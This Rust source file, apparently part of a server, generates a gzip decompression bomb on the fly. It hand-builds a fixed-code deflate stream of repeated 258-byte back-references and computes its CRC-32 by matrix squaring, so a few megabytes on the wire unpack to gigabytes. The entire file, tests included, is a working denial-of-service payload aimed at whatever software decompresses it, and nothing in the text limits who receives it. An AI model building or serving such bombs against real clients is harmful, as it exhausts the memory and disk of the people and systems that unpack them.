//! A gzip bomb, made as it is sent: a few megabytes on the wire, gigabytes when unpacked, constant memory here.
//!
//! One deflate block with the fixed codes (RFC 1951, 3.2.6): a literal space, then "258 bytes from one byte back" over and over. That pair
//! of symbols is 13 bits long, so 8 of them are the same 13 bytes each time.

use bytes::{BufMut, Bytes, BytesMut};

const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// Matches in one run of the repeating bytes.
const MATCHES: u64 = 8;
const MATCH_LENGTH: u64 = 258;
const LITERAL: u8 = b' ';

/// The chunks of a gzip stream that unpacks to at least `unpacked` spaces, rounded up to whole runs.
pub(super) fn chunks(unpacked: u64) -> impl Iterator<Item = Bytes> + Send {
    let runs = unpacked.saturating_sub(1).div_ceil(MATCHES * MATCH_LENGTH);
    let size = 1 + runs * MATCHES * MATCH_LENGTH;
    let mut bits = Bits::default();
    // The last block, fixed codes, then the literal: 8 bits, 0x30 plus its value, most significant bit first.
    bits.low_first(0b011, 3);
    bits.high_first(0x30 + u32::from(LITERAL), 8);
    let head: Vec<u8> = HEADER.into_iter().chain(bits.whole()).collect();
    // 1024 runs a chunk: 13 KiB on the wire, 2 MiB unpacked.
    let full = runs / 1024;
    let rest = runs % 1024;
    let mut middle = bits.clone();
    let chunk = run_bytes(&mut middle, 1024);
    let mut end = bits;
    let mut tail = run_bytes(&mut end, rest);
    end.high_first(0, 7);
    tail.extend(end.finish());
    tail.extend(crc_of_run(LITERAL, size).to_le_bytes());
    tail.extend(
        u32::try_from(size & u64::from(u32::MAX))
            .unwrap_or_default()
            .to_le_bytes(),
    );
    let chunk = Bytes::from(chunk);
    let middle = (0..full).map(move |_| chunk.clone());
    std::iter::once(Bytes::from(head))
        .chain(middle)
        .chain(std::iter::once(Bytes::from(tail)))
}

/// The bytes of `runs` runs. A run is a whole number of bytes, and the three bits left over are zero before (the end of the literal's code) and
/// after (the end of a distance's), so that every chunk of runs has the same bytes.
fn run_bytes(bits: &mut Bits, runs: u64) -> Vec<u8> {
    for _ in 0..runs * MATCHES {
        // Length 258 is symbol 285: 8 bits, 0xc5. Distance 1 is symbol 0: 5 bits.
        bits.high_first(0xc5, 8);
        bits.high_first(0, 5);
    }
    bits.whole()
}

/// A bit buffer as deflate fills it, from the low end of each byte.
#[derive(Clone, Default)]
struct Bits {
    bytes: BytesMut,
    pending: u32,
    count: u32,
}

impl Bits {
    fn low_first(&mut self, value: u32, bits: u32) {
        self.pending |= value << self.count;
        self.count += bits;
        while self.count >= 8 {
            self.bytes
                .put_u8(u8::try_from(self.pending & 0xff).unwrap_or_default());
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes go in from their most significant bit.
    fn high_first(&mut self, value: u32, bits: u32) {
        self.low_first(value.reverse_bits() >> (32 - bits), bits);
    }

    /// The bytes that are whole by now.
    fn whole(&mut self) -> Vec<u8> {
        self.bytes.split().to_vec()
    }

    fn finish(mut self) -> Vec<u8> {
        if self.count > 0 {
            self.low_first(0, 8 - self.count);
        }
        self.whole()
    }
}

/// The CRC-32 of `count` times `byte`, by squaring: `state -> state·A + b` over GF(2), as a matrix of 33 columns.
fn crc_of_run(byte: u8, count: u64) -> u32 {
    let step = |state: u32| {
        let mut state = state ^ u32::from(byte);
        for _ in 0..8 {
            state = if state & 1 == 1 {
                (state >> 1) ^ 0xedb8_8320
            } else {
                state >> 1
            };
        }
        state
    };
    let constant = step(0);
    let mut power = Affine {
        columns: std::array::from_fn(|bit| step(1 << bit) ^ constant),
        constant,
    };
    let mut state = u32::MAX;
    let mut left = count;
    while left > 0 {
        if left & 1 == 1 {
            state = power.apply(state);
        }
        power = power.twice();
        left >>= 1;
    }
    !state
}

struct Affine {
    columns: [u32; 32],
    constant: u32,
}

impl Affine {
    fn linear(&self, state: u32) -> u32 {
        let chosen = self
            .columns
            .iter()
            .enumerate()
            .filter(|(bit, _)| state >> bit & 1 == 1);
        chosen.fold(0, |sum, (_, column)| sum ^ column)
    }

    fn apply(&self, state: u32) -> u32 {
        self.linear(state) ^ self.constant
    }

    fn twice(&self) -> Self {
        Self {
            columns: self.columns.map(|column| self.linear(column)),
            constant: self.apply(self.constant),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_a_run_is_that_of_its_bytes() {
        // The check values of zlib's crc32(b"1") and crc32(b"").
        assert_eq!(crc_of_run(b'1', 1), 0x83dc_efb7);
        assert_eq!(crc_of_run(0, 0), 0);
    }

    #[test]
    fn a_gibibyte_is_sent_in_less_than_seven_mebibytes() {
        let sent: usize = chunks(1 << 30).map(|chunk| chunk.len()).sum();
        assert!(sent < 7 << 20, "{sent} bytes");
    }
}
